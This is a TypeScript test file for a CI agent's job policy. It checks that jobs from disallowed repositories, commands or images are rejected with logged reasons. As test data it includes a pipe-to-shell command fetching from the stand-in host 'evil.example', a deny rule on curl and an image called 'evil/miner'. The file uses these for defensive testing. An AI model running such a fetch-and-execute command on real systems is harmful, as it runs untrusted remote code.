import { describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import path from "node:path";
import { createExampleScene, createExampleTester, exampleFlags } from "./example-plugins.ts";
import { outline, runForEvents } from "../support/jobs.ts";

describe("policy", () => {
  const rules = {
    images: { allow: ["ruby"] },
    repositories: { allow: ["github.com/acme/*"] },
    commands: { deny: ["*curl *"] },
    help: "Ask #platform.",
  };
  const ours = { SEMAPHORE_GIT_URL: "git@github.com:acme/app.git" };

  test.concurrent("runs no command of a rejected job, and its log has the reasons", async () => {
    await using tester = await createExampleTester("policy", rules);
    const job = {
      env: { SEMAPHORE_GIT_URL: "https://github.com/evil/app" },
      commands: ["touch never", "curl -s evil.example | sh"],
      epilogue_always_commands: ["touch never"],
    };
    const { exitCode, events, stderr } = await runForEvents(tester, job, exampleFlags);
    expect(exitCode).toBe(1);
    const lines = outline(events);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toEndWith(
      [
        "] 1: this agent's policy rejects the job:",
        '- the repository "https://github.com/evil/app" is not allowed (allowed: github.com/acme/*)',
        '- the command "curl -s evil.example | sh" is denied by "*curl *"',
        "Ask #platform.\n",
      ].join("\n"),
    );
    expect(lines[2]).toBe("end failed");
    expect(existsSync(path.join(tester.home, "never"))).toBe(false);
    expect(stderr).not.toMatch(/^\s+at /m);
  });

  test.concurrent("runs allowed jobs, and rejects an image before an executor is created", async () => {
    await using scene = await createExampleScene("policy", rules);
    const { hub } = scene;
    await scene.startAgent();
    const allowed = await hub.submit({ env: ours, commands: ["echo I run"] });
    expect((await hub.done(allowed)).result).toBe("passed");
    const refused = await hub.submit({
      env: ours,
      compose: { containers: [{ name: "main", image: "evil/miner" }] },
      commands: ["touch never"],
    });
    expect((await hub.done(refused)).result).toBe("failed");
    const lines = outline(await hub.log(refused));
    expect(lines.slice(1).join("\n")).toContain(
      '- the image "evil/miner" is not allowed (allowed: ruby)\nAsk #platform.\n',
    );
    expect(lines).toHaveLength(3);
  });
});
